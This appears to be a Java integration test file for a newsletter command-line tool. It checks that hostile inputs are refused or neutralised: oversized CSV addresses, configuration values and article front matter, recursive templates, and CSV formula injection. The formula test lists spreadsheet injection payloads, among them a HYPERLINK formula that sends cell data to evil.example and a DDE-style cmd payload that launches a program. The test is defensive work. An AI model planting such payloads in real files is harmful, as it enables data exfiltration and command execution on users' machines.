package dev.rundbrief.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The attacks from outside that the command must refuse or bound (issue 28): what an attacker can
 * put into a CSV file, the configuration, the articles and the templates, run through the real
 * command in this JVM.
 */
class OutsideAttackCliIT {
  @TempDir Path temp;
  Path ws;

  @BeforeEach
  void workspace() throws Exception {
    System.setProperty("rundbrief.now", "2026-11-26T08:00:00Z");
    ws = temp.resolve("ki");
    CliRunner.Result init =
        CliRunner.runRaw(
            "init", ws.toString(), "--title", "KI-Rundbrief", "--site", "https://ki.example.org/");
    assertThat(init.exitCode()).as(init.err()).isZero();
  }

  @AfterEach
  void clock() {
    System.clearProperty("rundbrief.now");
  }

  @Test
  void anExportedListOpensWithoutFormulasAndImportsBackUnchanged() throws Exception {
    List<String> names =
        List.of(
            "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Click\")",
            "+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(1+1)",
            "'=1+1");
    for (int i = 0; i < names.size(); i++) {
      CliRunner.Result added =
          CliRunner.run(ws, "subscribers", "add", "r" + i + "@example.org", "--name", names.get(i));
      assertThat(added.exitCode()).as(added.err()).isZero();
    }
    Path file = temp.resolve("export.csv");
    assertThat(CliRunner.run(ws, "subscribers", "export", file.toString()).exitCode()).isZero();
    String csv = Files.readString(file, StandardCharsets.UTF_8);
    assertThat(csv)
        .contains("r0@example.org,\"'=HYPERLINK(")
        .contains("r1@example.org,'+cmd|")
        .contains("r2@example.org,'-2+3,")
        .contains("r3@example.org,'@SUM(1+1),")
        .contains("r4@example.org,''=1+1,");

    Path other = temp.resolve("other");
    CliRunner.runRaw("init", other.toString(), "--title", "B", "--site", "https://b.example.org/");
    CliRunner.Result imported = CliRunner.run(other, "subscribers", "import", file.toString());
    assertThat(imported.exitCode()).as(imported.err()).isZero();
    assertThat(imported.out()).contains("Added 5,");
    String list = CliRunner.run(other, "subscribers", "list", "--json").out();
    for (String name : names) {
      assertThat(list).contains(Json.MAPPER.writeValueAsString(name));
    }
  }

  @Test
  void aTenMegabyteAddressInACsvIsQuotedAsAShortPrefixOnStandardError() throws Exception {
    Path file = temp.resolve("big.csv");
    Files.writeString(
        file,
        "email,name\n"
            + "a".repeat(10 * 1024 * 1024)
            + "@evil.example,Evil\n"
            + "ok@example.org,Olga\n"
            + "b@"
            + "b".repeat(5 * 1024 * 1024)
            + ".example,Bob\n",
        StandardCharsets.UTF_8);
    CliRunner.Result r = CliRunner.run(ws, "subscribers", "import", file.toString());
    assertThat(r.exitCode()).isEqualTo(ExitCode.PARTIAL);
    assertThat(r.out()).contains("Added 1,").contains("rejected 2.");
    assertThat(r.err().length()).as("standard error is short").isLessThan(1000);
    assertThat(r.err().lines().toList())
        .hasSize(2)
        .allSatisfy(l -> assertThat(l).contains("characters)").contains("longer than 254"));
    assertThat(r.err()).contains("big.csv line 2: e-mail address 'aaaa");
  }

  private Path config() {
    return ws.resolve("rundbrief.yaml");
  }

  private static void assertOneLineRefusal(CliRunner.Result r, String... parts) {
    assertThat(r.exitCode()).as(r.err()).isEqualTo(ExitCode.USAGE);
    assertThat(r.err().strip().lines().count()).as(r.err()).isEqualTo(1);
    assertThat(r.err().length()).as("short").isLessThan(600);
    assertThat(r.err()).contains(parts).doesNotContain("Exception", "\tat ");
  }

  @Test
  void aConfigurationWithAFourMegabyteValueIsRefusedByItsSizeBeforeItIsParsed() throws Exception {
    String original = Files.readString(config());
    for (String attack :
        List.of(
            original.replace(
                "title: \"KI-Rundbrief\"", "title: \"" + "T".repeat(4 * 1024 * 1024) + "\""),
            original + "\nunbekannt: \"" + "x".repeat(4 * 1024 * 1024) + "\"\n")) {
      assertThat(attack.length()).isGreaterThan(4 * 1024 * 1024);
      Files.writeString(config(), attack);
      assertOneLineRefusal(
          CliRunner.run(ws, "subscribers", "list"),
          "rundbrief.yaml is ",
          "a configuration file may have at most 262144 bytes");
    }
  }

  @Test
  void aTitleLongerThanTheSingleLineBoundIsRefusedNamingTheSetting() throws Exception {
    String original = Files.readString(config());
    assertThat(original).contains("title: \"KI-Rundbrief\"");
    Files.writeString(
        config(),
        original.replace("title: \"KI-Rundbrief\"", "title: \"" + "T".repeat(5000) + "\""));
    assertOneLineRefusal(
        CliRunner.run(ws, "subscribers", "list"),
        "setting 'publication.title' is 5000 characters long",
        "at most 1000");
  }

  @Test
  void anSmtpPortWithoutAHostSaysThatThePortNeedsAHost() throws Exception {
    String original = Files.readString(config());
    Files.writeString(config(), original.replaceFirst("    # port: 587\n", "    port: 2525\n"));
    assertThat(Files.readString(config())).contains("    port: 2525");
    CliRunner.Result r = CliRunner.run(ws, "subscribers", "list");
    assertOneLineRefusal(r, "setting 'mail.smtp.port' needs a host", "'mail.smtp.host' is not set");
    assertThat(r.err()).doesNotContain("unknown setting");
  }

  @Test
  void anArticleWithAHugeFrontMatterOrTitleIsRejectedAndTheOthersAreImported() throws Exception {
    Path articles = temp.resolve("in");
    Files.createDirectories(articles);
    Files.writeString(
        articles.resolve("riesig.md"),
        "---\ntitle: \"" + "T".repeat(4 * 1024 * 1024) + "\"\n---\nText.\n");
    Files.writeString(
        articles.resolve("lang.md"), "---\ntitle: \"" + "L".repeat(20_000) + "\"\n---\nText.\n");
    Files.writeString(articles.resolve("lang.txt"), "W".repeat(3000) + "\n\nText darunter.\n");
    Files.writeString(
        articles.resolve("gut.md"),
        "---\ntitle: Ein gutes Stück\ndate: 2026-11-25\n---\nText, der bleibt.\n");
    CliRunner.Result r = CliRunner.run(ws, "import", articles.toString());
    assertThat(r.exitCode()).as(r.err()).isEqualTo(ExitCode.PARTIAL);
    assertThat(r.out()).contains("Imported 1,").contains("rejected 3.");
    assertThat(r.err().length()).as("short").isLessThan(3000);
    assertThat(r.err())
        .contains("riesig.md")
        .contains("has a front matter longer than 65536 characters")
        .contains("has a title of 20000 characters; titles may have at most 1000")
        .contains("lang.txt");
  }

  @Test
  void templatePartialsThatIncludeEachOtherGiveOneLineAndExitTwoInPreviewAndTestSend()
      throws Exception {
    Path sending = SendWorkspace.create(temp.resolve("send"), 0, 9);
    Path templates = sending.resolve("templates");
    Files.createDirectories(templates);
    Files.writeString(templates.resolve("text.mustache"), "{{> a}}\n");
    Files.writeString(templates.resolve("a.mustache"), "A\n{{> b}}\n");
    Files.writeString(templates.resolve("b.mustache"), "B\n{{> a}}\n");
    for (String[] command :
        List.of(new String[] {"preview"}, new String[] {"send", "--test", "ich@example.org"})) {
      assertOneLineRefusal(
          CliRunner.run(sending, command),
          "b.mustache",
          "partials include each other ('text' -> 'a' -> 'b' -> 'a')");
    }
  }
}
